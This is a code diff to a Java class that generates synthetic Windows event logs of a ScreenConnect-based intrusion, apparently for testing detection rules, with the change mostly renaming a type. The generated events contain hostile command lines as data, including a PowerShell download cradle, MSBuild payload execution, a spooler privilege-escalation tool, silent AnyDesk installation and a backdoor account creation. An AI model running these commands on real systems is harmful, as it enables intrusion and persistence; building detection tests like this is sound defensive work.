@@ -21,8 +21,8 @@ final class IntrusionScript {
 
     private final EventLog log;
     private final List<Step> steps = new ArrayList<>();
-    private final Process services;
-    private final Process client;
+    private final RunningProgram services;
+    private final RunningProgram client;
     private Instant now = Instant.EPOCH;
 
     IntrusionScript(EventLog log) {
@@ -61,28 +61,29 @@ final class IntrusionScript {
 
     void commands() {
         command();
-        Process shell = log.systemProcess(Programs.POWERSHELL, Relay.powershell(log.guid()));
+        RunningProgram shell = log.systemProcess(Programs.POWERSHELL, Relay.powershell(log.guid()));
         add(
                 "a PowerShell script comes through ScreenConnect",
                 log.processCreated(tick(), shell, client),
-                PackRules.SCREENCONNECT_POWERSHELL);
+                PackRules.SCREENCONNECT_POWERSHELL,
+                PackRules.INDICATORS);
     }
 
     void delivery() {
-        Process command = command();
-        String cradle = "(New-Object Net.WebClient).DownloadFile('http://" + DOWNLOAD_SERVER + "/text.xml','" + PAYLOAD + "')";
-        Process shell = log.systemProcess(Programs.POWERSHELL, "powershell.exe -nop -c \"" + cradle + "\"");
-        add(
-                "WebClient fetches the XML file",
-                log.processCreated(tick(), shell, command),
-                PackRules.WEBCLIENT_PROCESS);
+        RunningProgram command = command();
+        String cradle =
+                "(New-Object Net.WebClient).DownloadFile('http://" + DOWNLOAD_SERVER + "/text.xml','" + PAYLOAD + "')";
+        RunningProgram shell = log.systemProcess(Programs.POWERSHELL, "powershell.exe -nop -c \"" + cradle + "\"");
+        add("WebClient fetches the XML file", log.processCreated(tick(), shell, command), PackRules.WEBCLIENT_PROCESS);
         add(
                 "the script block of a ScreenConnect script downloads",
                 log.scriptRun(tick(), cradle, Relay.script(log.guid(), "run.ps1")),
                 PackRules.WEBCLIENT_SCRIPT);
-        Process window = log.systemProcess(
+        RunningProgram window = log.systemProcess(
                 Programs.screenConnect(SUPPLIER_INSTANCE, "WindowsClient"),
-                "\"" + Programs.screenConnect(SUPPLIER_INSTANCE, "WindowsClient").image() + "\"");
+                "\""
+                        + Programs.screenConnect(SUPPLIER_INSTANCE, "WindowsClient")
+                                .image() + "\"");
         add(
                 "ScreenConnect writes an XML file that the operator sends",
                 log.fileCreated(tick(), window, "C:\\Users\\Public\\Documents\\ConnectWiseControl\\Temp\\text.xml"),
@@ -94,8 +95,8 @@ final class IntrusionScript {
     }
 
     void payload(List<String> addresses) {
-        Process command = command();
-        Process build = log.systemProcess(Programs.MSBUILD, Programs.MSBUILD.image() + " " + PAYLOAD);
+        RunningProgram command = command();
+        RunningProgram build = log.systemProcess(Programs.MSBUILD, Programs.MSBUILD.image() + " " + PAYLOAD);
         add(
                 "MSBuild builds text.xml",
                 log.processCreated(tick(), build, command),
@@ -121,27 +122,23 @@ final class IntrusionScript {
     }
 
     void spooler() {
-        Process tool = log.systemProcess(
+        RunningProgram tool = log.systemProcess(
                 Program.of("C:\\Windows\\Temp\\p64.exe", "p64", "unknown"), "C:\\Windows\\Temp\\p64.exe -c cmd");
         String guid = log.guid();
         add(
                 "a second spooler pipe appears",
                 log.pipeCreated(tick(), tool, "\\" + guid.substring(1, guid.length() - 1) + "\\pipe\\spoolss"),
                 PackRules.SPOOLER_PIPE);
-        Process spooler = log.systemProcess(Programs.SPOOLER, "C:\\Windows\\System32\\spoolsv.exe");
-        Process shell = log.systemProcess(Programs.CMD, "cmd.exe /c C:\\Windows\\Temp\\s.cmd");
-        add(
-                "the print spooler starts a shell",
-                log.processCreated(tick(), shell, spooler),
-                PackRules.SPOOLER_CHILD);
+        RunningProgram spooler = log.systemProcess(Programs.SPOOLER, "C:\\Windows\\System32\\spoolsv.exe");
+        RunningProgram shell = log.systemProcess(Programs.CMD, "cmd.exe /c C:\\Windows\\Temp\\s.cmd");
+        add("the print spooler starts a shell", log.processCreated(tick(), shell, spooler), PackRules.SPOOLER_CHILD);
     }
 
     void anyDesk() {
-        Process command = command();
+        RunningProgram command = command();
         Program dropped = Program.of("C:\\ProgramData\\AnyDesk.exe", "AnyDesk", "AnyDesk Software GmbH");
-        Process install = log.systemProcess(
-                dropped,
-                dropped.image() + " --install \"C:\\Program Files (x86)\\AnyDesk\" --start-with-win --silent");
+        RunningProgram install = log.systemProcess(
+                dropped, dropped.image() + " --install \"C:\\Program Files (x86)\\AnyDesk\" --start-with-win --silent");
         add(
                 "AnyDesk is installed silently through ScreenConnect",
                 log.processCreated(tick(), install, command),
@@ -160,8 +157,8 @@ final class IntrusionScript {
     }
 
     void account() {
-        Process command = command();
-        Process net = log.systemProcess(Programs.NET, "net user svc_demo Ex4mple-Only /add");
+        RunningProgram command = command();
+        RunningProgram net = log.systemProcess(Programs.NET, "net user svc_demo Ex4mple-Only /add");
         add(
                 "an account is created through ScreenConnect",
                 log.processCreated(tick(), net, command),
@@ -173,8 +170,8 @@ final class IntrusionScript {
     }
 
     void secondInstance() {
-        Process command = command();
-        Process installer = log.systemProcess(
+        RunningProgram command = command();
+        RunningProgram installer = log.systemProcess(
                 Programs.MSIEXEC, "msiexec.exe /i C:\\Windows\\Temp\\ScreenConnect.ClientSetup.msi /qn");
         add(
                 "a further ScreenConnect client is installed through the first",
@@ -190,11 +187,8 @@ final class IntrusionScript {
                 "the service of a further ScreenConnect instance (Security)",
                 log.serviceInstallationAudited(tick(), service, path),
                 PackRules.SCREENCONNECT_SERVICE_4697);
-        Process other = log.systemProcess(Programs.screenConnect(OTHER_INSTANCE, "ClientService"), path);
-        add(
-                "the further client starts",
-                log.processCreated(tick(), other, services),
-                PackRules.UNAPPROVED_RELAY);
+        RunningProgram other = log.systemProcess(Programs.screenConnect(OTHER_INSTANCE, "ClientService"), path);
+        add("the further client starts", log.processCreated(tick(), other, services), PackRules.UNAPPROVED_RELAY);
         add(
                 "the further client asks for its relay",
                 log.nameResolved(tick(), other, OTHER_RELAY, "203.0.113.77"),
@@ -202,9 +196,8 @@ final class IntrusionScript {
     }
 
     void backupExploit() {
-        Process tool = log.systemProcess(
-                Program.of("C:\\Windows\\Temp\\v.exe", "v", "unknown").withSha256(BACKUP_EXPLOIT),
-                "v.exe 10.20.0.40");
+        RunningProgram tool = log.systemProcess(
+                Program.of("C:\\Windows\\Temp\\v.exe", "v", "unknown").withSha256(BACKUP_EXPLOIT), "v.exe 10.20.0.40");
         add(
                 "a file with a listed hash runs",
                 log.processCreated(tick(), tool, log.systemProcess(Programs.CONHOST, "conhost.exe 0xffffffff")),
@@ -212,12 +205,13 @@ final class IntrusionScript {
     }
 
     /** The operator sends a command. */
-    private Process command() {
-        Process shell = log.systemProcess(Programs.CMD, Relay.command(log.guid(), "run.cmd"));
+    private RunningProgram command() {
+        RunningProgram shell = log.systemProcess(Programs.CMD, Relay.command(log.guid(), "run.cmd"));
         add(
                 "a command comes through ScreenConnect",
                 log.processCreated(tick(), shell, client),
-                PackRules.SCREENCONNECT_COMMAND);
+                PackRules.SCREENCONNECT_COMMAND,
+                PackRules.INDICATORS);
         add(
                 "the Application log tells of a command",
                 log.screenConnect(tick(), 200, "Executed command of length: 74", client),
@@ -228,8 +222,7 @@ final class IntrusionScript {
     private void add(String step, WindowsEvent event, String... expectedRules) {
         steps.add(new Step(
                 event.time(),
-                new DemoEvent(
-                        DocumentWriter.DATA_STREAM, DocumentWriter.json(event), step, List.of(expectedRules))));
+                new DemoEvent(DocumentWriter.DATA_STREAM, DocumentWriter.json(event), step, List.of(expectedRules))));
     }
 
     private Instant tick() {
